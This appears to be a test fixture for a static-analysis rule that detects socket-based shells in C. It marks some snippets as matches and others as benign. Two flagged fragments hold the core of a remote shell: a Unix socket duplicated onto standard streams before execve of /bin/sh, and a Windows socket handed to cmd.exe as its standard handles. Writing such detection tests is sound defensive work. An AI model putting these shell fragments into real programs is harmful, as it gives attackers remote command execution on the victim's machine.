int s = socket(AF_INET, SOCK_STREAM, 0);
connect(s, (struct sockaddr *)&addr, sizeof addr);
for (int i = 0; i < 3; i++)
    // ruleid: c-socket-shell
    dup2(s, i);
execve("/bin/sh", (char *[]){"sh", NULL}, NULL);
// ===== block =====
SOCKET s = WSASocketA(AF_INET, SOCK_STREAM, IPPROTO_TCP, NULL, 0, 0);
// ruleid: c-socket-shell
si.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)s;
CreateProcessA(NULL, "cmd.exe", NULL, NULL, TRUE, 0, NULL, NULL, &si, &pi);
// ===== block =====
int fd = open("/dev/null", O_RDWR);
// ok: c-socket-shell
dup2(fd, STDIN_FILENO);
// ok: c-socket-shell
dup2(fd, STDOUT_FILENO);
// ===== block =====
int client = accept(listener, NULL, NULL);
int sock = socket(AF_INET, SOCK_STREAM, 0);
// ok: c-socket-shell
dup2(client, STDOUT_FILENO);
execl("/usr/lib/cgi-bin/report", "report", (char *)NULL);
